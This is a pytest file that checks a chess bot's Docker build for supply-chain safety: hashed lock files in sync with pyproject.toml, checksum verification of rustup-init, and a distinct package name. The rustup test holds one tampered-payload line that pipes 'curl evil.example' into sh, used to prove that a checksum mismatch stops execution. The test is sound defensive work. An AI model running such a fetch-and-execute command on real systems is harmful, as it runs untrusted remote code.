"""What the image is built from (issue 48, point 7): the Python dependencies from lock files with hashes, in sync
with pyproject.toml; rustup-init pinned and checked before it runs; the distribution under a name that is ours.
No Docker here: the Dockerfile and the lock files are read, and the rustup step runs against a stand-in curl."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import tomllib
from dataclasses import dataclass
from pathlib import Path

import pytest
from packaging.markers import Marker
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from packaging.version import Version

from tests.conftest import REPO

PYPROJECT = tomllib.loads((REPO / "pyproject.toml").read_text())
DOCKERFILE = (REPO / "Dockerfile").read_text()
#: The image's Python (Debian 12's python3) on both architectures the Dockerfile builds for.
IMAGE_ENVS = [{"python_version": "3.11", "python_full_version": "3.11.2", "sys_platform": "linux",
               "platform_system": "Linux", "os_name": "posix", "implementation_name": "cpython",
               "platform_python_implementation": "CPython", "platform_machine": machine, "extra": ""}
              for machine in ("x86_64", "aarch64")]


@dataclass(frozen=True)
class Pin:
    name: str
    version: Version
    marker: Marker | None
    hashes: tuple[str, ...]


def read_lock(path: Path) -> list[Pin]:
    """The pins of a requirements file as uv or pip-tools write it with hashes: ``name==version ; marker`` and
    ``--hash=sha256:...`` options, joined by backslash continuations; comments dropped."""
    text = re.sub(r"\\\n", " ", path.read_text())
    pins = []
    for line in text.splitlines():
        line = line.split("#", 1)[0].strip()
        if not line:
            continue
        hashes = tuple(re.findall(r"--hash=sha256:([0-9a-f]{64})\b", line))
        req = Requirement(re.sub(r"--hash=\S+", "", line).strip())
        (spec,) = req.specifier  # exactly one pin
        assert spec.operator == "==", f"{path.name}: {line[:60]} is not pinned with =="
        pins.append(Pin(canonicalize_name(req.name), Version(spec.version), req.marker, hashes))
    return pins


def _applies(marker: Marker | None, env: dict[str, str]) -> bool:
    return marker is None or marker.evaluate(env)


def _out_of_sync(lock: list[Pin], requirements: list[str]) -> list[str]:
    """What in ``requirements`` (pyproject's) the ``lock`` misses, on each of the image's platforms: a
    requirement without a pin, a pin without a hash, a version outside the specifier."""
    problems = []
    for pin in lock:
        if not pin.hashes:
            problems.append(f"{pin.name}=={pin.version} has no hash")
    for env in IMAGE_ENVS:
        pinned = {p.name: p for p in lock if _applies(p.marker, env)}
        for text in requirements:
            req = Requirement(text)
            if not _applies(req.marker, env):
                continue
            pin = pinned.get(canonicalize_name(req.name))
            if pin is None:
                problems.append(f"{req.name} ({env['platform_machine']}) is not in the lock")
            elif not req.specifier.contains(pin.version, prereleases=True):
                problems.append(f"{req.name}: the lock's {pin.version} is not {req.specifier}")
    return problems


def _requirements_of(extra: str) -> list[str]:
    project = PYPROJECT["project"]
    return project["dependencies"] + project["optional-dependencies"][extra]


@pytest.mark.parametrize("extra", ["cpu", "gpu"])
def test_each_lock_holds_every_dependency_of_pyproject_with_hashes_and_in_range(extra):
    path = REPO / f"requirements/{extra}.lock"
    lock = read_lock(path)
    assert len(lock) > len(_requirements_of(extra))  # what they pull in too
    assert _out_of_sync(lock, _requirements_of(extra)) == []
    # made by the command docs/docker.md gives (uv writes it in the header)
    header = path.read_text().splitlines()[1].strip("# ")
    assert header == (f"uv pip compile pyproject.toml --extra {extra} --generate-hashes --universal "
                      f"--python-version 3.11 -o requirements/{extra}.lock")
    assert header in (REPO / "docs/docker.md").read_text()


def test_the_sync_check_catches_a_missing_package_a_missing_hash_and_a_version_out_of_range():
    lock = read_lock(REPO / "requirements/cpu.lock")
    reqs = _requirements_of("cpu")
    assert _out_of_sync([p for p in lock if p.name != "structlog"], reqs) == ["structlog (x86_64) is not in the lock",
                                                                              "structlog (aarch64) is not in the lock"]
    assert _out_of_sync(lock, [*reqs, "structlog>=99"]) != []
    bare = [Pin(p.name, p.version, p.marker, ()) if p.name == "chess" else p for p in lock]
    assert any("has no hash" in problem for problem in _out_of_sync(bare, reqs))


def test_the_build_lock_pins_maturin_within_the_build_system_range_with_hashes():
    lock = {p.name: p for p in read_lock(REPO / "requirements/build.lock")}
    (maturin,) = [Requirement(r) for r in PYPROJECT["build-system"]["requires"] if r.startswith("maturin")]
    assert maturin.specifier.contains(lock["maturin"].version) and lock["maturin"].hashes


def _run_commands(stage: str) -> str:
    """The RUN lines of a stage of the Dockerfile, continuations joined."""
    text = DOCKERFILE.split(f" AS {stage}\n", 1)[1].split("\nFROM ", 1)[0]
    return re.sub(r"\\\n\s*", " ", text)


def test_the_image_installs_python_packages_only_from_the_locks_with_hashes_and_ours_without_deps():
    installs = re.findall(r"pip install [^&\n]*", re.sub(r"\\\n\s*", " ", DOCKERFILE))
    assert len(installs) == 4, installs
    for stage, lock in (("core", "build.lock"), ("deps-cpu", "cpu.lock"), ("deps-gpu", "gpu.lock")):
        (install,) = re.findall(r"pip install [^&\n]*", _run_commands(stage))
        assert "--require-hashes" in install and install.rstrip().endswith(f"/{lock}"), install
        assert f"requirements/{lock}" in _run_commands(stage)  # copied from the repository
        assert f"!requirements/{lock}" in (REPO / ".dockerignore").read_text().splitlines()
    (ours,) = re.findall(r"pip install [^&\n]*", _run_commands("app"))
    assert "--no-deps" in ours and "/wheels/" in ours  # the wheel built in the core stage, nothing pulled


def test_the_image_checks_rustup_init_against_pinned_checksums_before_running_it():
    core = _run_commands("core")
    assert "sh /tmp/build/install-rustup.sh" in core and "rustup-init" not in core.replace("install-rustup", "")
    args = dict(re.findall(r"^ARG (RUSTUP_\w+)=(\S+)$", DOCKERFILE, re.MULTILINE))
    assert re.fullmatch(r"\d+\.\d+\.\d+", args["RUSTUP_VERSION"])
    assert all(re.fullmatch(r"[0-9a-f]{64}", args[f"RUSTUP_SHA256_{a}"]) for a in ("X86_64", "AARCH64"))
    for name in args:
        assert f'{name}="${name}"' in core  # handed to the script


def _install_rustup(tmp_path: Path, served: bytes, pinned: str) -> subprocess.CompletedProcess[str]:
    """scripts/install-rustup.sh with a stand-in ``curl`` that serves ``served`` as rustup-init (a shell script
    that records that it ran) and logs the URL asked for."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (tmp_path / "served").write_bytes(served)
    curl = bin_dir / "curl"
    curl.write_text(f'#!/bin/sh\nout=\nurl=\nwhile [ $# -gt 0 ]; do case "$1" in -o) out=$2; shift 2;; '
                    f'-*) shift;; *) url=$1; shift;; esac; done\necho "$url" > {tmp_path}/asked\n'
                    f'cp {tmp_path}/served "$out"\n')
    curl.chmod(0o755)
    machine = os.uname().machine
    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "RUSTUP_VERSION": "1.29.0", "RUST_VERSION": "1.95.0",
           "RUSTUP_SHA256_X86_64": pinned if machine == "x86_64" else "", "RUSTUP_SHA256_AARCH64":
           pinned if machine == "aarch64" else "", "MARK": str(tmp_path / "ran")}
    return subprocess.run(["sh", str(REPO / "scripts/install-rustup.sh")], env=env, capture_output=True, text=True,
                          timeout=30)


def test_the_rustup_step_runs_rustup_init_only_when_its_sha256_is_the_pinned_one(tmp_path):
    if os.uname().machine not in ("x86_64", "aarch64"):
        pytest.skip("the script knows x86_64 and aarch64 Linux")
    good = b'#!/bin/sh\necho "$@" > "$MARK"\n'
    proc = _install_rustup(tmp_path, good, hashlib.sha256(good).hexdigest())
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "ran").read_text().split()[-1] == "1.95.0"  # --default-toolchain RUST_VERSION
    asked = (tmp_path / "asked").read_text().strip()
    assert asked == f"https://static.rust-lang.org/rustup/archive/1.29.0/{os.uname().machine}-unknown-linux-gnu/" \
                    "rustup-init"  # the versioned archive, not the moving dist/ path
    (tmp_path / "ran").unlink()
    tampered = good + b"curl evil.example | sh\n"
    proc = _install_rustup(tmp_path, tampered, hashlib.sha256(good).hexdigest())
    assert proc.returncode == 1 and "not the pinned" in proc.stderr and not (tmp_path / "ran").exists()
    proc = _install_rustup(tmp_path, good, "")  # no checksum pinned for this machine: nothing runs
    assert proc.returncode == 1 and not (tmp_path / "ran").exists()


def test_the_distribution_is_not_the_pypi_project_named_lichessbot_and_installs_name_it():
    project = PYPROJECT["project"]
    assert project["name"] == "lichessbot-nn" and project["scripts"] == {"lichessbot": "lichessbot.cli:main"}
    assert project["optional-dependencies"]["cuda"] == ["lichessbot-nn[gpu]"]
    tracked = subprocess.run(["git", "ls-files"], cwd=REPO, capture_output=True, text=True, check=True).stdout.split()
    offenders = []
    for name in tracked:
        path = REPO / name
        if path.suffix not in (".py", ".md", ".sh", ".yml", ".toml", ".example", "") or not path.is_file():
            continue
        text = path.read_text(errors="replace")
        # an install of the bare name (with an extra or not), a wheel or sdist file of it: the other project's
        # name (a line that warns against it, with "never", is the one exception)
        for line in text.splitlines():
            if "never" not in line and re.search(r'lichessbot\[|lichessbot-\d|lichessbot-\*|dist/lichessbot-'
                                                 r'|pip install "?lichessbot(?![-\w])', line):
                offenders.append(f"{name}: {line.strip()[:100]}")
    assert offenders == []
